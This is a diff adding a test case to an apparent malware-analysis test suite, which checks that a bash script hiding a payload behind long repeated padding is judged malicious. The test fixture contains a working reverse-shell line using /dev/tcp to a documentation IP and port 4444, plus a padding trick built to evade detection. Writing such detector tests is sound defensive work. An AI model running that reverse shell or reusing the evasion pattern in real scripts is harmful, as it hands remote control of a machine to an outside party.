@@ -55,6 +55,17 @@ describe('a payload in the last of many calls of a function that burns steps', (
     expect(['malicious', 'suspicious', 'incomplete']).toContain(verdict);
   });
 
+  it.each([
+    ['run as it is', 'f() { sh -c "$1"; }'],
+    ['written and run', 'f() { echo "$1" > /tmp/y; sh /tmp/y; }'],
+  ])('is seen behind thousands of characters that are the same each time: %s', async (_, carrier) => {
+    const padding = `: ${'a'.repeat(3_000)}; `;
+    const same = Array.from({ length: 6 }, () => `f '${padding}true'`).join('; ');
+    const content = `#!/bin/bash\n${carrier}\nm() { ${same}; f '${padding}bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'; }\nm\n`;
+    const { verdict } = await reportOf({ entrypoint: ['/run.sh'], files: { '/run.sh': { content, mode: 0o755 } } });
+    expect(verdict).toBe('malicious');
+  });
+
   it('and in the last of many runs of one script', async () => {
     const runs = Array.from({ length: 40 }, (_, at) => `/own.sh echo ${at}`).join('\n');
     const { verdict } = await reportOf({
